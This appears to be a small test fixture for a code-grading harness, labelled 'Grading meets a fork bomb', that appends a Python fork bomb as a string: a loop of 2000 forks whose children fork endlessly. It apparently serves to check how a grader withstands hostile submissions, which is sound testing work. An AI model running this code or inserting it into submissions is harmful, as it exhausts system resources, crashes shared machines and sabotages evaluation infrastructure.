"""Grading meets a fork bomb.

mode: ending
"""

append(
    """
import os
for _ in range(2000):
    try:
        if os.fork() == 0:
            while True:
                os.fork()
    except OSError:
        pass
"""
)
